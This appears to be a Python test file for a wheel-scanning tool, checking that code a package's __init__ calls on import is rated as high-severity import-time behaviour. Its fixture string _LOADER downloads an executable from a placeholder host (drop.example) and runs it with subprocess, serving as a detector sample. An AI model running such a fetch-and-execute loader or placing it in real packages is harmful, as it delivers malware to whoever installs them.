"""A function a package's ``__init__`` imports from its own module and calls on import runs on
import: what it does is rated as import-time code."""

from __future__ import annotations

from pathlib import Path

from tests.helpers.dists import DistSpec, build_wheel
from verify._behaviour.diff import DistFile, diff_distributions
from verify._behaviour.import_calls import import_calls
from verify.errors import ArchiveError
from verify.models import Finding, Severity

_LOADER = (
    "import subprocess, requests\n"
    "def fetch(url, path):\n"
    "    open(path, 'wb').write(requests.get(url).content)\n"
    "def load_and_run():\n"
    "    fetch('https://drop.example/x.exe', '/tmp/x.exe')\n"
    "    subprocess.run(['/tmp/x.exe'])\n"
)


def _findings(tmp_path: Path, init: str) -> list[Finding]:
    files = {"demo/__init__.py": init, "demo/loader.py": _LOADER}
    built = build_wheel(DistSpec("demo", "1.0", files=files), tmp_path)
    return list(diff_distributions(DistFile(built, built.name), None).findings)


def _severity(findings: list[Finding], rule: str) -> Severity:
    [severity] = {f.severity for f in findings if f.rule == rule and f.path == "demo/loader.py"}
    return severity


def test_a_function_init_calls_on_import_runs_at_import_time(tmp_path: Path) -> None:
    findings = _findings(tmp_path, "from .loader import load_and_run as go\ngo()\n")
    assert _severity(findings, "process-spawn") is Severity.HIGH
    assert _severity(findings, "network-access") is Severity.HIGH
    spawn = next(f for f in findings if f.rule == "process-spawn")
    assert "at import time" in spawn.message


def test_a_function_init_only_imports_runs_when_called(tmp_path: Path) -> None:
    guarded = (
        "from .loader import load_and_run\n"
        "def main():\n    load_and_run()\n"
        "if __name__ == '__main__':\n    load_and_run()\n"
    )
    findings = _findings(tmp_path, guarded)
    assert _severity(findings, "process-spawn") is Severity.MEDIUM


def test_import_calls_resolves_relative_modules_and_skips_what_it_cannot_read() -> None:
    files = {
        "pkg/__init__.py": b"from .sub.mod import a\nfrom ..outside import b\na(); b()\n",
        "pkg/sub/__init__.py": b"from . import mod\nfrom .mod import c\n[c() for _ in ()]\n",
        "pkg/sub/mod.py": b"",
        "broken/__init__.py": b"from .x import y\ny(\n",
        "unread/__init__.py": b"",
    }

    def read(path: str) -> bytes:
        if path.startswith("unread/"):
            raise ArchiveError("not read")
        return files[path]

    assert import_calls(files, read) == {"pkg/sub/mod.py": frozenset({"a", "c"})}
